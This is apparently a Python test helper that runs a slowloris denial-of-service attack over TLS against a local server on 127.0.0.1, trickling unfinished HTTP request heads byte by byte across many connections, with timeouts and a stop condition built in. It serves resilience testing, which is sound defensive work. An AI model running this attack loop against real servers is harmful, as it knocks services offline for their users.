#!/usr/bin/env python3
"""slowloris.py - a slowloris attack over real TLS (Python's ssl, i.e.
OpenSSL) for test_slowloris.sh. Every socket has a timeout and the whole
attack stops by itself.

  slowloris.py PORT N OPEN_S HOLD_S [STOPFILE]
      Opens N TLS connections, started evenly over the first OPEN_S
      seconds. Each completes its handshake and then sends a request head
      one byte every TRICKLE_S, never finishing it; a connection the
      server closes is opened again, as attack tools do. At HOLD_S after
      the start, or once STOPFILE exists, every connection is closed.
      Prints one JSON line: connections opened, and how many the server
      closed.
"""
import json
import os
import socket
import ssl
import sys
import threading
import time

TRICKLE_S = 0.25
TIMEOUT_S = 3
HEAD = b"GET /healthz HTTP/1.1\r\nHost: slow\r\nX-Slow: " + b"a" * 4000


def main():
    port, n = int(sys.argv[1]), int(sys.argv[2])
    open_s, hold_s = float(sys.argv[3]), float(sys.argv[4])
    stopfile = sys.argv[5] if len(sys.argv) > 5 else None
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    t0 = time.monotonic()
    end = t0 + hold_s
    lock = threading.Lock()
    counts = {"opened": 0, "closed_by_server": 0}

    def over():
        return (time.monotonic() >= end or
                (stopfile is not None and os.path.exists(stopfile)))

    def note(key):
        with lock:
            counts[key] += 1

    def one(i):
        start = t0 + open_s * i / n
        time.sleep(max(0.0, start - time.monotonic()))
        while not over():
            s = None
            try:
                raw = socket.create_connection(("127.0.0.1", port),
                                               timeout=TIMEOUT_S)
                raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                s = ctx.wrap_socket(raw)
                note("opened")
                for b in HEAD:
                    if over():
                        break
                    s.sendall(bytes([b]))
                    time.sleep(TRICKLE_S)
                else:
                    continue
            except (OSError, ssl.SSLError):
                note("closed_by_server")
                time.sleep(TRICKLE_S)
            finally:
                if s is not None:
                    s.close()

    ts = [threading.Thread(target=one, args=(i,), daemon=True)
          for i in range(n)]
    for t in ts:
        t.start()
    for t in ts:
        t.join(hold_s + TIMEOUT_S + 2)
    print(json.dumps(counts, sort_keys=True))
    return 0


if __name__ == "__main__":
    sys.exit(main())
